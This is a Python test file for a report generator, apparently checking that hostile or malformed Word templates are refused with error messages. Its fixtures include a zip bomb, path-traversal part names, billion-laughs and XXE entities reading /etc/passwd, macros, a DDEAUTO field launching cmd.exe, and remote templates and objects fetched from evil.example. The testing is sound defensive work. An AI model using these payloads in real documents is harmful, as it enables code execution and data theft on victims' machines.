"""Word templates that are meant to harm, or that are no Word documents: refused with a message, and never filled."""

from __future__ import annotations

import io
import random
import re
import struct
import time
import zipfile
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path

import pytest
from lxml import etree

from reportgen.cli import main
from reportgen.diagnostics import Severity
from reportgen.errors import ExitCode
from tests.clerk.packages import (
    MAIN,
    OFFICE,
    STYLES,
    TYPES,
    WML,
    Edit,
    Parts,
    W,
    Word,
    add,
    before_slot,
    box,
    bytes_of,
    edited,
    field,
    p,
    packed,
    parts_of,
    r,
    relate,
    swap,
)

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT = f"{WML}.document.main+xml"
SETTINGS = "word/settings.xml"
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
ENTITY = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
AFTER_HEAD = 'standalone="yes"?>\n'


def _renamed(old: str, new: str) -> bytes:
    """A part under another name."""
    return packed({(new if name == old else name): data for name, data in bytes_of(edited()).items()})


def _and(name: str, data: bytes = b"x") -> bytes:
    """A part more, which nothing refers to."""
    return packed({**bytes_of(edited()), name: data})


def _twice() -> bytes:
    out = io.BytesIO(edited())
    with zipfile.ZipFile(out, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr(MAIN, "<x/>")
    return out.getvalue()


def _bomb() -> bytes:
    """Two hundred megabytes of nothing, in two hundred kilobytes."""
    return _and("word/media/image1.png", bytes(200 * 2**20))


def _lying_bomb() -> bytes:
    """A part that says that it is small: no more of it is read than it says, and that is damage."""
    data = bytearray(_and("word/media/image1.png", bytes(20 * 2**20)))
    size = struct.pack("<L", 20 * 2**20)
    at = data.rindex(size)
    data[at : at + 4] = struct.pack("<L", 100)
    return bytes(data)


def _encrypted() -> bytes:
    data = bytearray(edited())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def _odt() -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})


def _type(new: str) -> Edit:
    return swap(TYPES, DOCUMENT, new)


def _strict() -> bytes:
    parts = parts_of(edited())
    for name in parts:
        for old, new in (
            (W, "http://purl.oclc.org/ooxml/wordprocessingml/main"),
            (OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
        ):
            parts[name] = parts[name].replace(old, new)
    return packed(parts)


def _object(kind: str, target: str = "embeddings/oleObject1.bin") -> bytes:
    """An object in the file, as Word writes it for Insert, Object."""

    def edit(parts: Parts) -> None:
        relate(kind, target)(parts)
        parts[f"word/{target}"] = "<x/>" if target.endswith(".xml") else "MZ"

    return edited(edit)


def _linked(kind: str, target: str, to: str = MAIN) -> Callable[[], bytes]:
    return lambda: edited(relate(kind, target, to=to, outside=True))


def _field(code: str) -> Callable[[], bytes]:
    return lambda: edited(before_slot(p(field(code, "x"))))


def _utf16_entity() -> bytes:
    parts: dict[str, str | bytes] = dict(parts_of(edited()))
    text = str(parts[STYLES]).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return packed({**parts, STYLES: text.replace(AFTER_HEAD, f"{AFTER_HEAD}{ENTITY}", 1).encode("utf-16")})


HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # What unpacks to more, or elsewhere
    "a zip bomb": (_bomb, "T006", "the file unpacks to 200 MB"),
    "a part that says it is small": (_lying_bomb, "T005", "the file is damaged: it can't be unpacked"),
    "thousands of parts": (
        lambda: packed({**bytes_of(edited()), **{f"x/{at}.bin": b"" for at in range(2_500)}}),
        "T006",
        "the file unpacks to",
    ),
    "a path out of the package": (
        lambda: _and("../../evil.xml"),
        "T006",
        "a part of the file is called '../../evil.xml'",
    ),
    "a path from the root": (lambda: _and("/etc/passwd"), "T006", "a part of the file is called '/etc/passwd'"),
    "a path of Windows": (lambda: _and("word\\..\\evil.dll"), "T006", "a part of the file is called"),
    "a drive": (lambda: _and("C:evil.dll"), "T006", "a part of the file is called 'C:evil.dll'"),
    "a part twice": (_twice, "T006", "two parts of the file are called 'word/document.xml'"),
    "a part twice but for its case": (lambda: _and("word/DOCUMENT.xml"), "T006", "two parts of the file are called"),
    # What XML can do
    "billion laughs": (
        lambda: edited(swap(MAIN, AFTER_HEAD, AFTER_HEAD + LAUGHS)),
        "T006",
        "the part 'word/document.xml' declares",
    ),
    "an entity from outside": (
        lambda: edited(swap(STYLES, AFTER_HEAD, AFTER_HEAD + ENTITY)),
        "T006",
        "the part 'word/styles.xml' declares",
    ),
    "an entity in the relationships": (
        lambda: edited(swap("word/_rels/document.xml.rels", AFTER_HEAD, AFTER_HEAD + ENTITY)),
        "T006",
        "the part 'word/_rels/",
    ),
    "an entity in UTF-16": (_utf16_entity, "T006", "the part 'word/styles.xml' declares"),
    "half a part": (
        lambda: edited(swap(STYLES, "</w:styles>", "")),
        "T005",
        "the file is damaged: its part 'word/styles.xml'",
    ),
    "100,000 elements in each other": (
        lambda: edited(before_slot("<w:p>" * 100_000 + "</w:p>" * 100_000)),
        "T005",
        "the file is damaged: its part",
    ),
    "an encoding of its own": (
        lambda: edited(swap(STYLES, 'encoding="UTF-8"', 'encoding="IBM037"')),
        "T005",
        "the file is damaged: its part",
    ),
    "windows-1252": (
        lambda: edited(swap(STYLES, 'encoding="UTF-8"', 'encoding="windows-1252"')),
        "T005",
        "the part 'word/styles.xml' is in",
    ),
    # What runs
    "a .docm by another name": (lambda: edited(_type(MACROS)), "T006", "the file holds macros"),
    "macros in a .docx": (lambda: _and("word/vbaProject.bin"), "T006", "the file holds macros"),
    "macros by a relationship": (lambda: _object("vbaProject", "other.bin"), "T006", "the file holds macros"),
    "an embedded object": (lambda: _object("oleObject"), "T006", "the file holds an embedded object"),
    "an embedded workbook": (
        lambda: _object("package", "embeddings/book.xlsx"),
        "T006",
        "the file holds an embedded object",
    ),
    "an ActiveX control": (
        lambda: _object("control", "activeX/activeX1.xml"),
        "T006",
        "the file holds an ActiveX control",
    ),
    "a part in HTML": (lambda: _object("aFChunk", "chunk.html"), "T006", "the file holds a part in another format"),
    # What is fetched
    "a template from the web": (
        _linked("attachedTemplate", "https://evil.example/x.dotm", SETTINGS),
        "T006",
        "the file draws in a template attached",
    ),
    "a template from a server": (
        _linked("attachedTemplate", "file://server/share/House.dotm", SETTINGS),
        "T006",
        "the file draws in a template attached",
    ),
    "a template from a share": (
        _linked("attachedTemplate", "\\\\server\\share\\House.dotm", SETTINGS),
        "T006",
        "the file draws in a template attached",
    ),
    "a picture from the web": (
        _linked("image", "https://evil.example/pixel.png"),
        "T006",
        "the file draws in a picture that is",
    ),
    "a picture from a drive": (
        _linked("image", "file:///C:/logo.png"),
        "T006",
        "the file draws in a picture that is linked",
    ),
    "a linked object": (
        _linked("oleObject", "https://evil.example/x.hta"),
        "T006",
        "the file draws in an object that is linked",
    ),
    "a sub-document": (_linked("subDocument", "chapter.docx"), "T006", "the file draws in a sub-document"),
    "a frame": (_linked("frame", "https://evil.example/"), "T006", "the file draws in a frame"),
    "the data of a mail merge": (
        _linked("mailMergeSource", "file:///C:/people.xlsx", SETTINGS),
        "T006",
        "the file draws in the data",
    ),
    "something new that is linked": (
        _linked("hologram", "https://evil.example/"),
        "T006",
        "the file draws in something that is",
    ),
    "a script for a link": (
        _linked("hyperlink", "javascript:alert(1)"),
        "T006",
        "a link leads to 'javascript:alert(1)'",
    ),
    "a link to a share": (_linked("hyperlink", "file:///\\\\server\\x"), "T006", "a link leads to"),
    "DDE": (
        _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        "T006",
        "paragraph 3 ('x') has the field DDEAUTO",
    ),
    "a picture by a field": (
        _field("INCLUDEPICTURE https://evil.example/x.png"),
        "T006",
        "paragraph 3 ('x') has the field INCLUDE",
    ),
    "a text by a field": (
        _field("includetext c:\\\\secret.docx"),
        "T006",
        "paragraph 3 ('x') has the field INCLUDETEXT",
    ),
    # What is no Word document
    "nothing": (lambda: b"", "T005", "the file is empty"),
    "half a file": (lambda: edited()[:3_000], "T005", "the file is damaged: it can't be unpacked"),
    "a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "T005",
        "the file is protected with a password, or",
    ),
    "an encrypted zip": (_encrypted, "T005", "the file is encrypted"),
    "rich text": (lambda: b"{\\rtf1 hello}", "T005", "the file is no Word document, but rich text"),
    "a web page": (lambda: b"<html></html>", "T005", "the file is no Word document, but XML or a web page"),
    "a PDF": (lambda: b"%PDF-1.7", "T005", "the file is no Word document, but a PDF"),
    "words": (lambda: b"Dear members", "T005", "the file is no Word document"),
    "OpenDocument": (_odt, "T005", "the file is no Word document, but OpenDocument"),
    "a .dotx by another name": (
        lambda: edited(_type(f"{WML}.template.main+xml")),
        "T005",
        "the file is a Word template (.dotx)",
    ),
    "Strict Open XML": (_strict, "T005", "the file was saved as Strict Open XML Document"),
    "an Excel workbook": (
        lambda: edited(_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
        "T005",
        "the file is no Word document, but 'application/vnd.openxml",
    ),
    "a body that is not there": (
        lambda: _renamed(MAIN, "word/other.xml"),
        "T005",
        "the file is damaged: it has no main part",
    ),
    "styles that are not there": (
        lambda: _renamed(STYLES, "word/other.xml"),
        "T005",
        "the file is damaged: 'word/document.xml'",
    ),
    "content types that are not there": (lambda: _renamed(TYPES, "x.xml"), "T005", "the file is no Word document"),
    "another program's names": (
        lambda: edited(
            lambda parts: parts.update({MAIN: parts[MAIN].replace("w:", "x:").replace("xmlns:w=", "xmlns:x=")})
        ),
        "T005",
        "the file was not written by Word",
    ),
    "a header that is text": (
        lambda: edited(add("word/header1.xml", "no XML", "header", f"{WML}.header+xml")),
        "T005",
        "the file is damaged: its part",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused(name: str, tmp_path: Path) -> None:
    make, code, message = HOSTILE[name]
    word = Word(tmp_path, make())
    started = time.perf_counter()
    (problem, *_) = word.check()
    assert (problem.code, problem.message[: len(message)]) == (code, message)
    assert word.write()[0] == b""
    assert time.perf_counter() - started < 3


@pytest.mark.parametrize(
    "edit",
    [
        relate("hyperlink", "https://www.gov.uk/", outside=True),
        relate("hyperlink", "mailto:clerk@example.gov.uk", outside=True),
        relate("hyperlink", "#Bookmark", outside=True),
        relate("image", "NULL"),
        before_slot(p(field("HYPERLINK https://example.org/DDE/LINK", "x"))),
        before_slot(p(r("We LINK plans and INCLUDE people"))),
    ],
)
def test_what_only_looks_hostile_is_taken(edit: Edit, tmp_path: Path) -> None:
    assert Word(tmp_path, edited(edit)).check() == []


def test_a_chart_may_keep_its_figures_in_a_workbook(tmp_path: Path) -> None:
    charts = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"

    def edit(parts: Parts) -> None:
        add("word/charts/chart1.xml", '<c:chartSpace xmlns:c="c"/>', "chart", charts)(parts)
        relate("package", "../embeddings/book.xlsx", to="word/charts/chart1.xml")(parts)
        parts["word/embeddings/book.xlsx"] = "PK"

    assert Word(tmp_path, edited(edit)).check() == []


@pytest.mark.parametrize("asked", ["check", "preview"])
def test_the_commands_refuse_a_hostile_template(
    asked: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(Path(__file__).parents[2])
    for name, (make, code, message) in list(HOSTILE.items())[::5]:  # each start of the command reads the project
        path = tmp_path / "house.docx"
        path.write_bytes(make())
        assert main(["template", asked, str(path)]) == ExitCode.PROBLEMS, name
        printed = capsys.readouterr()
        assert f"error {code}: {message}" in printed.out, name
        assert printed.err == ""


_ODD = ("", "-1", "abc", "99999999999", "1.5", "2.5cm", "{{ x }}", "true")


@pytest.mark.parametrize("element", ["pgSz", "pgMar"])
def test_lengths_that_word_never_writes_are_no_traceback(element: str, tmp_path: Path) -> None:
    attributes = {"pgSz": ("w", "h", "orient"), "pgMar": ("top", "left", "right", "bottom", "header", "gutter")}[
        element
    ]
    for attribute in attributes:
        for value in _ODD:

            def edit(parts: Parts, attribute: str = attribute, value: str = value) -> None:
                kept = re.search(rf"<w:{element}[^>]*/>", parts[MAIN])
                assert kept
                changed = re.sub(rf' w:{attribute}="[^"]*"', "", kept[0]).replace("/>", f' w:{attribute}="{value}"/>')
                parts[MAIN] = parts[MAIN].replace(kept[0], changed)

            word = Word(tmp_path, edited(edit))
            assert word.check() == [] or value == "{{ x }}"
            assert word.write()[0] or value == "{{ x }}"


@pytest.mark.parametrize("seed", range(4))
def test_a_template_damaged_at_random_is_never_a_traceback(seed: int, tmp_path: Path) -> None:
    chance = random.Random(seed)
    tags = ("{{ council }}", "{{", "}}", "{% if council %}", "{% endif %}", "{#", "x")
    whole = bytes_of(edited(before_slot(p(field("MERGEFIELD x", "y")), p(box(p(r("{{ date }}")))))))
    for _ in range(25):
        parts = dict(whole)
        for _ in range(chance.randint(1, 4)):
            name = chance.choice([each for each in parts if each.endswith((".xml", ".rels"))])
            root = etree.fromstring(parts[name])
            element = chance.choice(list(root.iter(etree.Element)))
            above = element.getparent()
            match chance.randrange(4):
                case 0 if above is not None:
                    above.remove(element)
                case 1 if above is not None:
                    above.append(deepcopy(element))
                case 2 if element.attrib:
                    element.set(chance.choice(sorted(element.attrib)), chance.choice(_ODD))
                case _:
                    element.text = chance.choice(tags)
            parts[name] = etree.tostring(root)
        word = Word(tmp_path, packed(parts))
        errors = [each for each in word.check() if each.severity is Severity.ERROR]
        data, said = word.write()
        assert bool(data) is not bool(said)
        assert set(errors) <= set(said)
